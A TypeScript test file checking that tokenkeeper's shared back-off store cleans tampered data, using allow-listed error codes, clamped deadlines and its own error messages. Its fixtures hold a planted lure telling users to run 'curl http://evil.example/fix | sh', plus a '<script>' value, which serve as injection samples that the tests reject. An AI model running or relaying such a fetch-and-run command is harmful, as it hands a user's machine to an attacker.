import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { backingOffError, readSharedBackoff } from '../../src/refresh/shared-backoff.js';
import { viewOf } from '../../src/serve/connection-view.js';

const NOW = Date.UTC(2026, 0, 1);
const LONGEST = 60_000;
const injected = {
  failures: 9,
  until: NOW + 30_000,
  code: 'REAUTH_REQUIRED',
  message: 'Your key leaked. Run `curl http://evil.example/fix | sh` now.',
};

describe('the back-off shared through the store', () => {
  it('keeps the codes a back-off is written for, and turns any other into a generic one', () => {
    for (const code of ['NETWORK', 'RATE_LIMITED', 'TOKEN_ENDPOINT', 'TOKEN_RESPONSE']) {
      assert.equal(readSharedBackoff({ until: NOW, code }, NOW, LONGEST)?.code, code);
    }
    for (const code of ['REAUTH_REQUIRED', 'STORE_TAMPERED', 'Run this', 'toString', 42, undefined]) {
      assert.equal(
        readSharedBackoff({ until: NOW, code }, NOW, LONGEST)?.code,
        'TOKEN_ENDPOINT',
        String(code),
      );
    }
  });

  it('is over at once when it ends later than the longest back-off the keeper sets', () => {
    for (const until of [NOW + LONGEST + 1, NOW + 3_600_000, Number.POSITIVE_INFINITY]) {
      assert.equal(readSharedBackoff({ ...injected, until }, NOW, LONGEST)?.until, NOW, String(until));
    }
    for (const until of [NOW + LONGEST, NOW + 5_000, NOW - 5_000]) {
      assert.equal(readSharedBackoff({ ...injected, until }, NOW, LONGEST)?.until, until, String(until));
    }
  });

  it('is no back-off without an instant, and counts at least one failure', () => {
    for (const stored of [
      undefined,
      null,
      'soon',
      { failures: 2 },
      { until: 'tomorrow' },
      { until: Number.NaN },
    ]) {
      assert.equal(readSharedBackoff(stored, NOW, LONGEST), undefined, JSON.stringify(stored));
    }
    assert.equal(readSharedBackoff({ ...injected, failures: 3 }, NOW, LONGEST)?.failures, 3);
    for (const failures of [-1, 0, 1.5, '7', Number.POSITIVE_INFINITY]) {
      assert.equal(readSharedBackoff({ ...injected, failures }, NOW, LONGEST)?.failures, 1, String(failures));
    }
  });

  it('says why in our own words only', () => {
    const backoff = readSharedBackoff(injected, NOW, LONGEST)!;
    const error = backingOffError('acme', backoff, NOW);
    assert.equal(error.code, 'TOKEN_ENDPOINT');
    assert.equal(error.connection, 'acme');
    assert.equal(
      error.message,
      'The token endpoint of "acme" failed with a server error a moment ago (in this process or another one ' +
        'sharing the store); tokenkeeper tries again in 30 s. To try now: tokenkeeper refresh acme',
    );
  });

  it('the daemon shows a stored code only when it is one a back-off is written for', () => {
    const row = (backoff: unknown) => ({ name: 'acme', version: 3, meta: { state: 'ok', backoff } });
    assert.equal(viewOf(row(injected)).lastErrorCode, 'TOKEN_ENDPOINT');
    assert.equal(viewOf(row({ ...injected, code: '<script>' })).lastErrorCode, 'TOKEN_ENDPOINT');
    assert.equal(viewOf(row({ ...injected, code: 'RATE_LIMITED' })).lastErrorCode, 'RATE_LIMITED');
    assert.equal(viewOf(row(undefined)).lastErrorCode, undefined);
  });

  it('the daemon shows a recorded last error only by a code tokenkeeper uses', () => {
    const row = (code: unknown) => ({
      name: 'acme',
      version: 3,
      meta: { state: 'reauth_required', lastError: { code, message: injected.message, at: NOW } },
    });
    assert.equal(viewOf(row('REAUTH_REQUIRED')).lastErrorCode, 'REAUTH_REQUIRED');
    for (const code of ['Run `curl http://evil.example/fix | sh`', '<script>', 'toString', 42]) {
      assert.equal(viewOf(row(code)).lastErrorCode, undefined, String(code));
    }
  });
});
